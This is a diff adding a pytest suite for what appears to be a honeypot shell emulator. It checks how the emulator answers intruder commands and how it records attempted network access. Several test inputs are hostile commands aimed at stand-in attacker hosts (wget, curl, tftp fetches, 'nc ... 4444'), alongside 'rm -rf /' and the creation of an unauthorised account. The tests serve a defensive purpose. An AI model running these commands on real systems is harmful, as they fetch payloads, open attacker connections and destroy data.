@@ -1,0 +1,173 @@
+# SPDX-License-Identifier: MIT
+"""Commands about accounts, processes, network and software, as an intruder uses them."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+import pytest
+from decky_host import Player
+
+MakePlayer = Callable[..., Player]
+
+
+@pytest.mark.parametrize(
+    ("line", "shown"),
+    [
+        ("id -u; id -g; id -un; id -gn", "0\n0\nroot\nroot\n"),
+        ("id deploy", "uid=1000(deploy) gid=1000(deploy) groups=1000(deploy),27(sudo),33(www-data)\n"),
+        ("whoami; logname; users; groups", "root\nroot\nroot\nroot\n"),
+        ("su deploy; whoami; pwd", "deploy\n/home/deploy\n"),
+        ("su -c 'whoami; pwd' deploy; whoami; pwd", "deploy\n/home/deploy\nroot\n/root\n"),
+        ("useradd mallory; grep mallory /etc/passwd", "mallory:x:1001:1001::/home/mallory:/bin/sh\n"),
+        ("useradd mallory; id mallory", "uid=1001(mallory) gid=1001(mallory) groups=1001(mallory)\n"),
+        ("echo 'deploy:x' | chpasswd; echo $?", "0\n"),
+        ("sudo id -u; sudo -u deploy true; echo $?", "0\n0\n"),
+        ("(su deploy; whoami); whoami", "deploy\nroot\n"),
+        ("hostname; hostname -I; dnsdomainname", "web-01\n10.20.0.10 \ninternal\n"),
+        ("uname -sr; arch; nproc", "Linux 6.1.0-25-amd64\nx86_64\n2\n"),
+        ("sysctl kernel.hostname", "kernel.hostname = web-01\n"),
+        ("kill 1; echo $?; pgrep -f nosuch; echo $?", "0\n1\n"),
+        ("systemctl is-active nginx; systemctl is-active nosuch", "active\ninactive\n"),
+        ("systemctl stop nginx; echo $?", "0\n"),
+        ("crontab -l; echo $?; echo '* * * * * x' | crontab -; crontab -l; crontab -r; crontab -l; echo $?",
+         "1\n* * * * * x\n1\n"),
+        ("apt install -y nmap; echo $?",
+         "Reading package lists... Done\nBuilding dependency tree... Done\nReading state information... Done\n100\n"),
+        ("ulimit -c; umask; type cd; command -v ls", "0\n0022\ncd is a shell builtin\n/usr/bin/ls\n"),
+        ("mktemp; ls /tmp/tmp.* | wc -l", None),
+    ],
+)  # fmt: skip
+def test_a_command_of_root_prints(run: Player, line: str, shown: str | None) -> None:
+    played = run(line)
+    if shown is None:
+        assert played.text.splitlines()[-1] == "1"
+    else:
+        assert played.text == shown
+
+
+@pytest.mark.parametrize(
+    ("line", "complaint", "status"),
+    [
+        ("id nosuch", "id: \u2018nosuch\u2019: no such user\n", 1),
+        ("passwd nosuch", "passwd: user 'nosuch' does not exist\n", 1),
+        ("useradd", "useradd: Usage: useradd [options] LOGIN\n", 2),
+        ("useradd deploy", "useradd: user 'deploy' already exists\n", 9),
+        ("chown nosuch /tmp", "chown: invalid user: \u2018nosuch\u2019\n", 1),
+        ("chmod 644", "chmod: missing operand after \u2018644\u2019\n", 1),
+        ("kill 99999", "-bash: kill: (99999) - No such process\n", 1),
+        ("systemctl restart nosuch", "Failed to restart nosuch.service: Unit nosuch.service not found.\n", 5),
+        ("systemctl status nosuch", "Unit nosuch.service could not be found.\n", 4),
+        ("docker ps", "-bash: docker: command not found\n", 127),
+        ("cd /nosuch", "-bash: cd: /nosuch: No such file or directory\n", 1),
+        ("rm -rf /", "rm: it is dangerous to operate recursively on '/'\n", 1),
+        ("cat /", "cat: /: Is a directory\n", 1),
+        ("mkdir /etc", "mkdir: cannot create directory \u2018/etc\u2019: File exists\n", 1),
+        ("touch /nosuch/x", "touch: cannot touch '/nosuch/x': No such file or directory\n", 1),
+        ("mv /nosuch /tmp", "mv: cannot stat '/nosuch': No such file or directory\n", 1),
+        ("cp /etc /tmp", "cp: -r not specified; omitting directory '/etc'\n", 1),
+        ("ln -s a /etc/passwd", "ln: failed to create link '/etc/passwd': File exists\n", 1),
+        ("rmdir /etc", "rmdir: failed to remove '/etc': Directory not empty\n", 1),
+        ("stat /nosuch", "stat: cannot statx '/nosuch': No such file or directory\n", 1),
+        ("find /nosuch", "find: \u2018/nosuch\u2019: No such file or directory\n", 1),
+        ("echo x > /proc/x", "-bash: /proc/x: Permission denied\n", 1),
+        ("busybox nosuch", "nosuch: applet not found\n", 127),
+        ("let 1 +", "-bash: let: +: syntax error: operand expected\n", 1),
+        ("[ a -eq 1 ]", "", 1),
+    ],
+)  # fmt: skip
+def test_a_refusal_is_in_the_programs_words(run: Player, line: str, complaint: str, status: int) -> None:
+    played = run(line)
+    assert (played.errors, played.text, played.status) == (complaint, "", status)
+
+
+@pytest.mark.parametrize(
+    ("line", "complaint"),
+    [
+        ("useradd x", "useradd: Permission denied.\nuseradd: cannot lock /etc/passwd; try again later.\n"),
+        ("passwd root", "passwd: You may not view or modify password information for root.\n"),
+        ("dmesg", "dmesg: read kernel buffer failed: Operation not permitted\n"),
+        ("reboot", "reboot: must be superuser.\n"),
+        ("iptables -L", "iptables: Permission denied (you must be root)\n"),
+        ("systemctl stop nginx", "systemctl: Failed to stop nginx.service: Access denied\n"),
+        ("chmod 777 /etc/passwd", "chmod: changing permissions of '/etc/passwd': Operation not permitted\n"),
+        ("rm /etc/passwd", "rm: cannot remove '/etc/passwd': Permission denied\n"),
+    ],
+)
+def test_what_only_root_may_is_refused_to_others(player: MakePlayer, line: str, complaint: str) -> None:
+    played = player("debian-web", "deploy")(line)
+    assert played.errors == complaint
+    assert played.status != 0
+
+
+def test_su_wants_the_password_of_the_other(player: MakePlayer) -> None:
+    run = player("debian-web", "deploy", b"wrong")
+    refused = run("su")
+    assert (refused.errors, refused.status, refused.pauses[-1]) == ("su: Authentication failure\n", 1, 1.5)
+    assert run("whoami").text == "deploy\n"
+    right = player("debian-web", "deploy", b"admin123")
+    assert right("su; whoami").text == "root\n"
+
+
+def test_sudo_su_stays_root_and_sudo_of_a_command_does_not(player: MakePlayer) -> None:
+    assert player("debian-web", "deploy", b"deploy")("sudo whoami; whoami").text == "root\ndeploy\n"
+    assert player("debian-web", "deploy", b"deploy")("sudo su -; whoami").text == "root\n"
+
+
+@pytest.mark.parametrize(
+    ("line", "action", "detail"),
+    [
+        ("wget http://198.51.100.9/x", "fetch", {"program": "wget", "url": "http://198.51.100.9/x"}),
+        ("curl -s -o x evil.example/x", "fetch", {"program": "curl", "url": "evil.example/x"}),
+        ("tftp -g -r x 198.51.100.9", "fetch", {"program": "tftp", "url": "198.51.100.9"}),
+        ("ping -c 1 198.51.100.9", "ping", {"host": "198.51.100.9"}),
+        ("nc 198.51.100.9 4444", "connect", {"program": "nc", "target": "198.51.100.9 4444"}),
+        ("ssh root@198.51.100.9", "connect", {"program": "ssh", "target": "root@198.51.100.9"}),
+        ("dig evil.example", "resolve", {"program": "dig", "name": "evil.example"}),
+        ("apt install nmap", "install", {"program": "apt", "packages": "nmap"}),
+    ],
+)
+def test_what_is_wanted_of_the_network_is_recorded_and_fails(
+    run: Player, line: str, action: str, detail: dict[str, str]
+) -> None:
+    played = run(line)
+    assert [(one.action, one.detail) for one in played.requested] == [(action, detail)]
+    assert played.status != 0
+    assert sum(played.pauses) > 0
+
+
+@pytest.mark.parametrize(
+    ("line", "shown", "status"),
+    [
+        ("curl http://evil.example/", "curl: (6) Could not resolve host: evil.example\n", 6),
+        ("curl 198.51.100.9", "curl: (7) Failed to connect to 198.51.100.9 port 80 after 3 ms: Couldn't connect to "
+         "server\n", 7),
+        ("wget -q http://evil.example/", "", 4),
+        ("ssh 198.51.100.9", "ssh: connect to host 198.51.100.9 port 22: Connection timed out\n", 255),
+        ("ping evil.example", "ping: evil.example: Temporary failure in name resolution\n", 2),
+        ("wget", "wget: missing URL\n", 2),
+    ],
+)  # fmt: skip
+def test_a_network_without_a_way_out_fails_as_it_does(run: Player, line: str, shown: str, status: int) -> None:
+    played = run(line)
+    assert (played.errors, played.status) == (shown, status)
+
+
+def test_wget_tells_what_it_tries(run: Player) -> None:
+    lines = run("wget http://evil.example/x").errors.splitlines()
+    assert lines[0] == "--2026-11-18 11:06:40--  http://evil.example/x"
+    assert lines[1:] == [
+        "Resolving evil.example (evil.example)... failed: Temporary failure in name resolution.",
+        "wget: unable to resolve host address \u2018evil.example\u2019",
+    ]
+
+
+def test_a_command_in_the_list_of_processes_is_the_one_that_runs(run: Player) -> None:
+    assert run("ps aux | tail -1").text.endswith(" ps aux\n")
+    assert run("ps").text.splitlines()[0] == "    PID TTY          TIME CMD"
+    assert "sshd: root [priv]" in run("ps -ef").text
+
+
+def test_uudecode_brings_a_file(run: Player) -> None:
+    done = run("uudecode <<'E'\nbegin 755 /tmp/u\n#:&D*\n`\nend\nE\ncat /tmp/u")
+    assert (done.text, [one.data for one in done.captured]) == ("hi\n", [b"hi\n"])
